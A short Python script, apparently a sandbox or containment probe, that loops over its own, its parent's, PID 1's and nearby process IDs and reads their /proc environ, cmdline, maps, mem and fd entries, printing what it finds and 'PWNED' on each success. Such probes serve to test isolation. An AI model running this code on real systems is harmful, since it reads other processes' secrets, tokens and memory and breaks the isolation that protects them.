# floor: contained
# It reads the environment of every process above it.
import os
for pid in ["self", os.getppid(), 1, *range(os.getppid() - 5, os.getppid() + 5)]:
    for name in ("environ", "cmdline", "maps", "mem", "fd"):
        try:
            print(open(f"/proc/{pid}/{name}", "rb").read(4096))
            print("PWNED")
        except (OSError, ValueError):
            pass
